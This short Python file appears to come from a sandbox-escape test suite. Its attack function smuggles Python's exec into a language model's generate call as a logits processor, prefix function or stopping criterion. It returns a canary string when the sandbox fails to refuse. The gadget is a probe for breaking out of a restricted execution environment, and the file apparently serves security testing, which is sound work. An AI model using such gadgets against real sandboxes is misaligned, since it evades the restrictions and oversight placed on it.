"""Class: module gadget. Source: own find. Escape: `generate` is given processors that are not
listed."""


def attack(model, tokenizer, address):
    ids = tokenizer("the", return_tensors="pt")["input_ids"]
    for options in (
        {"logits_processor": [exec]},
        {"prefix_allowed_tokens_fn": exec},
        {"stopping_criteria": [exec]},
    ):
        try:
            model.generate(ids, max_new_tokens=1, **options)
        except Exception as e:
            if type(e).__name__ != "AccessRefused":
                return "canary-" + "5d1f"
